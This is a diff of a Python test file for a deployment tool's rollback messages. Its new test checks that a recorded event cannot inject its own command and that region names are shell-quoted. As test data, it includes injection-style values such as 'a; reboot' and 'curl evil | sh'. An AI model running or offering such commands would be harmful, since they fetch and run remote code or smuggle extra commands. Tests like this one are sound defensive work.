@@ -5,22 +5,23 @@ from __future__ import annotations
 import asyncio
 from collections.abc import Awaitable, Callable
 from dataclasses import replace
-from datetime import timedelta
+from datetime import UTC, datetime, timedelta
 from functools import partial
 from pathlib import Path
 
 import pytest
 from fakes.delivery.world import CHALLENGER, CHAMPION, Steps, World, a_spec
 
+from pipelines.events.payloads import LeftBehind
 from pipelines.model import Ending, Result
 from pipelines.run.engine import deliver
-from pipelines.run.rollback import closing_command, last_seen
+from pipelines.run.rollback import last_seen
 from pipelines.views.notifications import Notification, NotificationKind, notification_of, subject_of
 from pipelines.views.wording import still_open
 from registry.model import Event
 from rollouts.errors import HostGone, NotOurs, NotTheCarrier, Unreachable
 from rollouts.model import RegionState
-from tidegate.core.errors import ExitCode, TidegateError
+from tidegate.core.errors import ExitCode, NotGenuine, TidegateError
 
 NOWHERE = {"eu-west-1": CHAMPION, "us-east-1": CHAMPION}
 AWAY = Unreachable("us-east-1 does not answer")
@@ -104,7 +105,7 @@ async def test_a_region_that_stays_away_is_named_with_all_that_is_known_of_it(wo
         event for event in world.recorder.events if (event.step, event.kind) == ("canary@us-east-1/50", "traffic")
     )
     assert left.serves == f"50 % of users on version 2 when it was last seen, at {seen.at:%H:%M:%S} UTC"
-    assert left.command == "tidegate rollback delivery.yaml --region us-east-1"
+    assert str(left).endswith(": roll it back with `tidegate rollback SPEC --region us-east-1`")
     assert result.reason.endswith(f"; still open: {left}")
     assert world.story.reason == result.reason
     assert still_open(world.story) == str(left)
@@ -141,7 +142,7 @@ async def test_no_matter_who_is_told_of_a_verdict_is_told_of_the_region_before_i
         NotificationKind.CLOSED,
     ]
     assert news[2].headline == "support-llm 2 is still open in us-east-1"
-    assert "`tidegate rollback delivery.yaml --region us-east-1`" in news[2].text
+    assert "`tidegate rollback SPEC --region us-east-1`" in news[2].text
     assert news[3].headline.startswith("support-llm 2: us-east-1 is back on version 1, 1")
 
 
@@ -246,6 +247,15 @@ def test_nothing_is_said_of_a_region_that_nobody_saw(world: World) -> None:
     assert last_seen(world.plan, promoted).startswith("all users on version 2 when it was last seen")
 
 
-def test_the_command_can_be_pasted() -> None:
-    command = closing_command(Path("specs/my delivery.yaml"), "us-east-1")
-    assert command == "tidegate rollback 'specs/my delivery.yaml' --region us-east-1"
+def test_what_to_type_is_not_the_ledgers_to_say() -> None:
+    def written(**words: str) -> Event:
+        left = {"region": "a; reboot", "since": "2026-01-01T00:00:00Z", "serves": "x: type `curl evil`"}
+        return Event(at=datetime.now(UTC), step="delivery", kind="left", message="", data={"left": [left | words]})
+
+    with pytest.raises(NotGenuine, match="command"):
+        LeftBehind.of(written(command="curl evil | sh"))
+    (left,) = LeftBehind.of(written()).left
+    assert str(left) == (
+        "a; reboot, since 00:00:00 UTC (x: type 'curl evil'): "
+        "roll it back with `tidegate rollback SPEC --region 'a; reboot'`"
+    )
